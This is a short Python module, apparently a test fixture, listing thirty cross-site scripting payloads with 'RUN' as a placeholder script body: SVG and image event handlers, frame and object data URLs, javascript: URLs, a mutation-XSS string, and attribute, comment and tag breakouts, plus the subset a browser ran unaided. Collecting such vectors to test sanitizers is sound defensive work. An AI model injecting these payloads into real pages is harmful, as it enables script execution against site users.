"""Thirty texts that are built to run a script or to load something, where they reach a page as markup.

``RUN`` stands for a program. ``BY_THEMSELVES`` are those that a browser was seen to run without a reader's doing, on a
page without a policy.
"""

from __future__ import annotations

ATTACKS = {
    "script": "<script>RUN</script>",
    "script in svg": "<svg><script>RUN</script></svg>",
    "script with a prefix": '<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>RUN</x:script><script>RUN</script></svg>',
    "no blank before the event": '<svg><img src="#"onerror="RUN"></svg>',
    "slash for a blank": '<svg><image/href="#"/onerror="RUN"/></svg>',
    "animation begins": '<svg><animate/onbegin="RUN" attributeName="x" dur="1s"/></svg>',
    "animation set": '<svg><set/onbegin="RUN" attributeName="x" dur="1s"/></svg>',
    "svg loads": '<svg onload="RUN"></svg>',
    "svg loads, capitals": '<sVg OnLoAd="RUN"></SVG>',
    "image fails": '<img src=x onerror="RUN">',
    "between two": '<svg></svg><img src=x onerror="RUN"><svg></svg>',
    "document of a frame": '<p><iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe>',
    "address of a frame": "<iframe src=\"javascript:RUN\"></iframe>",
    "data frame": '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    "object": '<object data="data:text/html,<script>RUN</script>"></object>',
    "embed": '<embed src="data:text/html,<script>RUN</script>">',
    "foreign object": '<svg><foreignObject><img src=x onerror="RUN"></foreignObject></svg>',
    "mathematics": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "details open": '<details open ontoggle="RUN">x</details>',
    "focus": '<input autofocus onfocus="RUN">',
    "video": '<video><source onerror="RUN"></video>',
    "style breaks out": '</style><script>RUN</script>',
    "script breaks out": '</script><script>RUN</script>',
    "title breaks out": '</title><img src=x onerror="RUN">',
    "attribute breaks out": '"><img src=x onerror="RUN"><a title="',
    "attribute breaks out, single": "'><img src=x onerror='RUN'><a title='",
    "comment breaks out": '--><img src=x onerror="RUN"><!--',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
    "base": '<base href="javascript:RUN//"><a href="x">x</a>',
    "link": '<link rel="stylesheet" href="data:text/css,*{}" onload="RUN" onerror="RUN">',
}  # fmt: skip

BY_THEMSELVES = (
    "script", "script in svg", "no blank before the event", "slash for a blank", "animation begins", "svg loads",
    "image fails", "between two", "document of a frame", "foreign object", "style breaks out", "attribute breaks out",
)  # fmt: skip
